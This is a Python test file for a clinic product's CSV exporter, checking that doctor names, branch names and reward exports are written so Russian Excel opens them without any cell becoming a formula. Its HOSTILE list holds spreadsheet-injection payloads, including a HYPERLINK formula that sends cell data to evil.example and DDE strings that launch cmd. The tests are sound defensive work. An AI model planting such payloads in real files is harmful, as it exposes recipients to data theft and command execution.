"""Every CSV the product writes is safe to open: no cell becomes a formula, and Russian Excel reads it
(UTF-8 with a BOM, ``;``). The numbers CSV and the accountant's rewards export both go through it."""

from __future__ import annotations

import csv
import io
import json

import pytest

from functions.exports.spreadsheet import csv_text, read_back, safe_cell
from tests.conftest import NOW, visit_row

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Скидка")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/c calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_is_written_as_text(value) -> None:
    assert safe_cell(value) == "'" + value
    assert cells(csv_text(["name"], [[value]]))[1] == ["'" + value]


@pytest.mark.parametrize("value", ["+79161234567", "-1.50", "100,00", 42, -3, 2.5, "Иванов И. И.", "", "a=b", " =1"])
def test_data_stays_as_written(value) -> None:
    assert safe_cell(value) == value


def test_the_file_opens_in_russian_excel_and_reads_back() -> None:
    text = csv_text(["clinic", "name"], [["c1", "Иванов; Пётр \"младший\""], ["c1", "=1+1"]])
    assert text.startswith("\ufeffclinic;name\r\n")
    assert read_back(text) == [{"clinic": "c1", "name": "Иванов; Пётр \"младший\""}, {"clinic": "c1", "name": "=1+1"}]
    assert read_back("clinic,name\r\nc1,Анна\r\n") == [{"clinic": "c1", "name": "Анна"}]  # saved again with commas


def test_the_numbers_csv_neutralises_doctor_and_branch_names(client, services, clinic, outbox) -> None:
    from functions.visits.intake import import_rows
    from tests.admin_helpers import sign_in

    rows = [(n, visit_row(n, doctor=name, branch=name)) for n, name in enumerate(HOSTILE, start=1)]
    import_rows(services.store, clinic, rows, 14, now=NOW)
    services.store.put_member("c1", "owner@clinic.ru", "owner", NOW)
    sign_in(client, outbox, "owner@clinic.ru")
    for table in ("doctors", "branches"):
        answer = client.get(f"/admin/c/c1/numbers.csv?table={table}&from=2026-11-01&to=2026-11-30")
        written = {row[0] for row in cells(answer.get_data(as_text=True))[1:]}
        # Names are stored with their spacing folded ("\t=1+1" arrives as "=1+1"); none starts a formula.
        assert written and all(name.startswith("'") for name in written), written
        assert "'" + HOSTILE[0] in written


def test_the_rewards_export_is_written_safe_and_marked_paid_from_excel_s_copy(tmp_path, settings, monkeypatch,
                                                                               services, clinic) -> None:
    from click.testing import CliRunner

    from functions.cli import main
    from functions.store import Reward

    monkeypatch.setenv("FUNNEL_SQLITE_PATH", settings.sqlite_path)
    services.store.grant_reward(Reward(clinic_id="c1", reward_id="2026-11/=1+1", visit_id="=1+1", phone="+79161234501",
                                       amount_minor=10000, currency="RUB", created_at=NOW), 0, None)
    out = tmp_path / "november.csv"
    assert CliRunner().invoke(main, ["rewards", "export", "--month", "2026-11", "--out", str(out)]).exit_code == 0
    [header, row] = cells(out.read_text(encoding="utf-8"))
    assert header == ["Клиника", "Номер выплаты", "Телефон", "Сумма", "Валюта", "Дата", "Выгрузка", "Платёжка"]
    assert row[:6] == ["c1", "2026-11/=1+1", "+79161234501", "100,00", "RUB", "23.11.2026 12:00"]  # Moscow time
    # The accountant writes the payment order into «Платёжка», and Excel saves it again as Windows-1251 with ';'.
    saved = out.read_text(encoding="utf-8-sig").replace(f"{row[6]};", f"{row[6]};п/п 118", 1)
    (tmp_path / "saved.csv").write_bytes(saved.encode("cp1251"))
    marked = CliRunner().invoke(main, ["rewards", "mark-paid", "--file", str(tmp_path / "saved.csv"), "--by", "Анна"])
    assert json.loads(marked.stdout) == {"paid": ["c1 2026-11/=1+1"]}
    paid = services.store.get_reward("c1", "2026-11/=1+1")
    assert (paid.status, paid.settled_by, paid.reference) == ("paid", "Анна", "п/п 118")
